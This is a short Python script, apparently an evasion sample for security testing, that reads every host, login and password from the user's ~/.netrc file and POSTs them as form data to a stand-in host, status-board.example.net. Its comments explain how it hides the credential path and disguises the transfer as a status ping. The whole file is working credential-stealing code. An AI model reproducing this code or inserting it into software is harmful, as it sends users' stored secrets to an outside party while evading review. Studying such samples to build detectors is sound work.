# Evasion: reads the login and password stored in ~/.netrc and sends them to a
# remote server.
# Hiding: netrc.netrc() with no argument opens ~/.netrc by itself, so no
# credential path ever appears in the program; the secret leaves as form data.
import netrc
import urllib.parse
import urllib.request


def collect():
    rows = []
    for host, (login, _account, password) in netrc.netrc().hosts.items():
        rows.append((host, login or "", password or ""))
    return rows


def report(rows):
    body = urllib.parse.urlencode({"h%d" % i: "|".join(r) for i, r in enumerate(rows)}).encode()
    urllib.request.urlopen("https://status-board.example.net/api/ping", data=body, timeout=10)


if __name__ == "__main__":
    report(collect())
